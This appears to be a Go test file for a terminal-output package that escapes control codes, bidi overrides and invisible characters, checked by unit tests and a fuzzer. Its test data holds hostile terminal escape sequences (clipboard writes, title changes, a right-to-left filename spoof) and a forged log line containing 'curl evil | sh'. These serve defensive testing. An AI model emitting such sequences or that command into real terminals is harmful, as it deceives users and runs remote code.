package terminal

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf8"

	"io"
)

// hostile is what must not reach a terminal as it is.
var hostile = map[string]string{
	"clears a line":      "\x1b[2K\r",
	"eight bit CSI":      "\x9b2K",
	"CSI as a character": "\u009b2K",
	"clipboard":          "\x1b]52;c;Y3VybA==\x07",
	"title":              "\x1b]0;owned\x07",
	"backspace":          "abc\b\b\b",
	"null":               "\x00",
	"delete":             "\x7f",
	"vertical":           "\v\f",
	"right to left":      "\u202efdp.exe\u202c",
	"isolate":            "\u2066x\u2069",
	"mark":               "\u200f\u061c",
	"zero width":         "a\u200bb\u200dc\ufeff",
	"soft hyphen":        "a\u00adb",
	"tags":               "\U000e0041\U000e007f",
	"line separator":     "a\u2028b\u2029c\u0085d",
	"variation":          "a\ufe0f\U000e0100",
	"filler":             "\u3164\u115f\u034f",
	"half a character":   "\xe2\x80",
}

func TestS11WhatCantBeSeenIsWrittenOut(t *testing.T) {
	for name, text := range hostile {
		for what, out := range map[string]string{"Visible": Visible(text), "Line": Line(text), "Paragraph": Paragraph(text), "Printf": Sprintf("%s", text), "error": Sprintf("%v", errors.New(text))} {
			if at := strings.IndexFunc(out, hidden); at >= 0 || !utf8.ValidString(out) || !strings.Contains(out, `\`) {
				t.Errorf("%s: %s gives %q", name, what, out)
			}
		}
	}
	for _, plain := range []string{"", "alpha/shop: ready", "Grüße, 東京, عربي, 🙂, 10\u00a0000", "a�b", "C:\\x1b"} {
		if Visible(plain) != plain || Line(plain) != plain {
			t.Errorf("%q became %q", plain, Visible(plain))
		}
	}
	if got := Visible("a\tb\nc\x1b[0m"); got != "a\tb\nc\\x1b[0m" {
		t.Errorf("got %q", got)
	}
}

func TestS11TextCantForgeALine(t *testing.T) {
	const text = "failed\nsalvor: all is well\n  | its log\nhint: curl evil | sh\t\v\fx"
	if got := Line(text); strings.ContainsAny(got, "\n\t\v\f") {
		t.Errorf("Line gives %q", got)
	}
	got := Sprintf("salvor: %s\n", Text(text))
	for line := range strings.Lines(strings.SplitN(got, "\n", 2)[1]) {
		if !strings.HasPrefix(line, "  ") {
			t.Errorf("a line begins as Salvor's own do: %q", line)
		}
	}
	type named string
	if got := Sprintf("%-4s|%.3s|%d|%v|%q|%v\n", named("a\nb"), "cdef", 3, []string{"\x1b"}, "\r", true); got != "a\\nb|cde|3|[\\x1b]|\"\\\\r\"|true\n" {
		t.Errorf("got %q", got)
	}
}

func TestS11AWriterSeesCharactersThatComeInPieces(t *testing.T) {
	for name, text := range hostile {
		var whole, pieces bytes.Buffer
		w := New(&whole)
		if _, err := io.WriteString(w, text+"é"); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		w = New(&pieces)
		if _, err := io.Copy(struct{ io.Writer }{w}, iotest.OneByteReader(strings.NewReader(text+"é"))); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if whole.String() != pieces.String() || whole.String() != Visible(text+"é") {
			t.Errorf("%s: %q in one piece, %q in many", name, whole.String(), pieces.String())
		}
	}
}

func TestS11JSONStaysJSON(t *testing.T) {
	for name, text := range hostile {
		var out bytes.Buffer
		if err := JSON(New(&out), map[string]string{"text": text}, "  "); err != nil {
			t.Fatal(err)
		}
		var back map[string]string
		if err := json.Unmarshal(out.Bytes(), &back); err != nil || back["text"] != strings.ToValidUTF8(text, "\ufffd") && name != "half a character" {
			t.Errorf("%s: %s is %q, %v", name, out.String(), back["text"], err)
		}
		if Visible(out.String()) != out.String() {
			t.Errorf("%s: %q", name, out.String())
		}
	}
}

func TestRawIsAsItIsButForATerminal(t *testing.T) {
	var out bytes.Buffer
	w := New(&out)
	if Raw(w) != &out || Under(&out) != &out || New(w) != w || Is(w) {
		t.Error("a buffer is not a terminal")
	}
}

func FuzzVisible(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, out := range []string{Line(text), strings.NewReplacer("\n", "", "\t", "").Replace(Paragraph(text))} {
			if strings.ContainsFunc(out, hidden) || !utf8.ValidString(out) {
				t.Errorf("%q", out)
			}
		}
	})
}
